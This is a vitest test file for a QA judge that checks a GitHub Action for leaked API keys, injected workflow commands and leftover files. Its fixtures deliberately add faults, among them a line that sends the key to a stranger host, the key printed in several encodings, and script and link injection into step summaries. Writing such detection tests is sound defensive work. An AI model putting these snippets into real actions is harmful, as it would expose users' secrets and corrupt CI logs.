import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { describe, expect, test } from 'vitest'
import { problemLines } from '../../../../tools/qa/campaign/campaign-report.ts'
import type { FaultCase } from '../../../../tools/qa/campaign/fault-case.ts'
import { copyAction } from '../../../../tools/qa/campaign/launch.ts'
import { runCase } from '../../../../tools/qa/campaign/run-case.ts'
import { isLong, sample } from '../../../support/amount.ts'
import { isStart } from '../../../support/service/faults/admin-host.ts'
import { responseLost } from '../../../support/service/faults/breaks.ts'
import { isWindows } from '../../../support/system.ts'

const actionFile = fileURLToPath(new URL('../../../../action.yml', import.meta.url))

/** A small correct action instead of the real one. */
const correctAction = `
import { appendFileSync, mkdirSync, writeFileSync } from 'node:fs'
import { spawnSync } from 'node:child_process'
const { env } = process
const key = env['INPUT_API-KEY']
const marker = env.MARKER
const append = (variable, text) => appendFileSync(env[variable], text)
const output = (name, value) => append('GITHUB_OUTPUT', name + '=' + value + '\\n')
const call = async (method, path, body) => {
  const headers = { authorization: 'Bearer ' + key }
  return (await fetch(env['INPUT_BASE-URL'] + path, { method, headers, body })).json()
}
const jobs = '/v1/static-export/jobs'
const start = () => call('POST', jobs, '{"domain":"docs.example.com"}')
const { jobId } = await start()
await call('GET', jobs + '/' + jobId)
const { bundleUrl } = await call('POST', jobs + '/' + jobId + '/bundle')
const signature = decodeURIComponent(bundleUrl.split(/ig(?:nature)?=/)[1].split('&')[0])
for (const [name, value] of Object.entries({ jobId, bundleUrl, status: 'completed' })) output(name, value)
output('errorCode', '')
output('outcome', 'success')
`

/** Runs a case with another action, and returns the faults that the judge finds. */
async function judged(source: string, change: Partial<FaultCase> = {}): Promise<string> {
  const folder = await mkdtemp(join(tmpdir(), 'judge-'))
  try {
    await mkdir(join(folder, 'dist'))
    await writeFile(join(folder, 'dist', 'index.js'), source)
    await writeFile(join(folder, 'dist', 'package.json'), '{ "type": "module" }')
    await using action = await copyAction(join(folder, 'dist'), actionFile)
    const result = await runCase(
      {
        name: 'a case',
        inject: ({ env, marker, stranger }) =>
          Object.assign(env, { MARKER: marker, STRANGER: stranger.origin }),
        expect: 'success',
        ...change,
        setting: { generation: 'domain', ...(change.setting ?? { delivery: 'link', timeout: 20 }) },
      },
      1,
      action,
    )
    return problemLines(result).join('\n')
  } finally {
    await rm(folder, { recursive: true })
  }
}

const limits = { timeout: 60_000 }

// The campaign is for Linux: it reads /proc.
describe.skipIf(isWindows).concurrent('the judge of the campaign', () => {
  test('finds nothing in a correct run', limits, async () => {
    expect(await judged(correctAction)).toBe('')
  })

  // One run has all mistakes that do not hide each other.
  const runs: [mistake: string, source: string, found: RegExp][][] = [
    [
      ['prints the key', "console.log('key ' + key)", /leak: the key \(plain\) in stdout/],
      [
        'prints it in hex',
        "console.log(Buffer.from(key).toString('hex'))",
        /the key \(hex\) in stdout/,
      ],
      ['prints it to stderr', 'console.error(key)', /the key \(plain\) in stderr/],
      ['sets it as an output', "output('model', key)", /the key \(plain\) in outputs/],
      [
        'saves it as state',
        "append('GITHUB_STATE', 'a=' + key + '\\n')",
        /the key \(plain\) in state/,
      ],
      ['prints the link', 'console.log(bundleUrl)', /leak: the link \(.*\) in stdout/],
      [
        'writes the signature into the summary',
        "append('GITHUB_STEP_SUMMARY', '`' + Buffer.from('x' + signature).toString('base64') + '`')",
        /leak: the link \(base64 at 1\) in the file .*step_summary/,
      ],
      [
        'sends the key to another host',
        'await fetch(env.STRANGER, { headers: { key } })',
        /another host received/,
      ],
      [
        'passes its environment to a child',
        "spawnSync('true')",
        /leak: the key \(.*\) in the file .*children/,
      ],
    ],
    [
      [
        'prints text as a command',
        "console.log('::set-output name=a::' + marker)",
        /injected: the command "::set-output/,
      ],
      [
        'prints text as a ##[ command',
        "console.log('x ##[error]' + marker)",
        /injected: the command "x ##/,
      ],
      [
        'prints text as an escape',
        "console.log('\\u001b[31m' + marker)",
        /the character U\+1b in the log/,
      ],
      [
        'prints text as a link',
        "append('GITHUB_STEP_SUMMARY', '[a](https://' + marker + '.example)')",
        /injected: a link to https:\/\/evil/,
      ],
      [
        'prints text as an element',
        "append('GITHUB_STEP_SUMMARY', '<img src=x>')",
        /the element html/,
      ],
      [
        'writes text as a script into the report',
        "const page = process.cwd() + '/page.html'; writeFileSync(page, '<script>' + marker); output('reportPath', page)",
        /injected: the element script/,
      ],
    ],
    [
      [
        'passes the key as an argument',
        "spawnSync('true', [key], { env: {} })",
        /in the file .*children/,
      ],
      [
        'leaves a file behind',
        "writeFileSync(env.RUNNER_TEMP + '/bundle.part', 'x')",
        /wrong: .*bundle\.part was left behind/,
      ],
      [
        'leaves a temporary file',
        "writeFileSync(env.TMPDIR + '/x', 'x')",
        /the temporary file x was left behind/,
      ],
      [
        'writes into the workspace',
        "mkdirSync('.site.new-1')",
        /\.site\.new-1\/ in the workspace is new/,
      ],
      [
        'sets another link as an output',
        "output('bundleUrl', 'https://x.example/')",
        /a link that was never minted/,
      ],
      [
        'tries the other generation of the API',
        "await call('POST', '/v1/static-export/p1/jobs')",
        /static-export\/p1\/jobs belongs to the other API generation/,
      ],
      ['sets another job as an output', "output('jobId', 'another')", /unknown job another/],
    ],
    [
      ['still fails', 'process.exitCode = 1', /exit code 1 with success/],
      ['still reports an error', "console.log('::error title=X::X: y.')", /1 errors reported/],
    ],
    [['reports another outcome', "output('outcome', 'failed')", /ended with , not success/]],
    [['throws an error', "throw new Error('oops')", /stderr: (?:.|\n)*oops/]],
  ]
  for (const mistakes of sample(runs, 1)) {
    let run: Promise<string> | undefined
    for (const [mistake, , found] of mistakes) {
      test(`finds a run that ${mistake}`, limits, async () => {
        run ??= judged(`${correctAction}${mistakes.map(([, source]) => `${source}\n`).join('')}`)
        expect(await run).toMatch(found)
      })
    }
  }

  test.runIf(isLong)('finds a run that hangs', limits, async () => {
    const setting = { delivery: 'link', timeout: 1 } as const
    const hanging = `${correctAction}setInterval(() => {}, 1000)\n`
    expect(await judged(hanging, { setting })).toMatch(/hung past its deadline/)
  })

  test.runIf(isLong)('finds a case whose fault never occurred', limits, async () => {
    const inject: FaultCase['inject'] = ({ store }) => store.fail(() => true, responseLost('reset'))
    expect(await judged(correctAction, { inject })).toMatch(/a fault of the store never occurred/)
  })

  test.runIf(isLong)(
    'finds a start that is sent again after one that may have been accepted',
    limits,
    async () => {
      const again = correctAction.replace('await start()', 'await start().catch(start)')
      const lost: FaultCase['inject'] = ({ host }) => host.fail(isStart, responseLost('reset'))
      expect(await judged(again, { inject: lost })).toMatch(/a start was sent after one that may/)
    },
  )

  test.runIf(isLong)('finds an unexpected outcome', limits, async () => {
    expect(await judged(correctAction, { expect: 'CONFLICT' })).toMatch(
      /ended with success, not CONFLICT/,
    )
  })

  test.runIf(isLong)('finds a file that differs from that of the store', limits, async () => {
    const wrong = "writeFileSync('b', 'x'); output('bundlePath', 'b')"
    const change = { setting: { delivery: 'download' } } as const
    expect(await judged(`${correctAction}${wrong}\n`, change)).toMatch(/success with wrong data/)
  })

  test.runIf(isLong)('finds a missing output jobId', limits, async () => {
    const silent = `${correctAction.split('for (const')[0]}process.on('SIGINT', () => process.exit(1)); setInterval(() => {}, 1000)\n`
    const cancelAt: FaultCase['cancelAt'] = ({ host }) =>
      new Promise((resolve) => {
        host.fail(isStart, async ({ socket, wire, send }) => {
          socket.on('close', () => setTimeout(resolve, 300))
          send(await wire())
        })
      })
    const found = await judged(silent, { expect: 'CANCELLED', cancelAt })
    expect(found).toMatch(/the output jobId is missing/)
  })
})
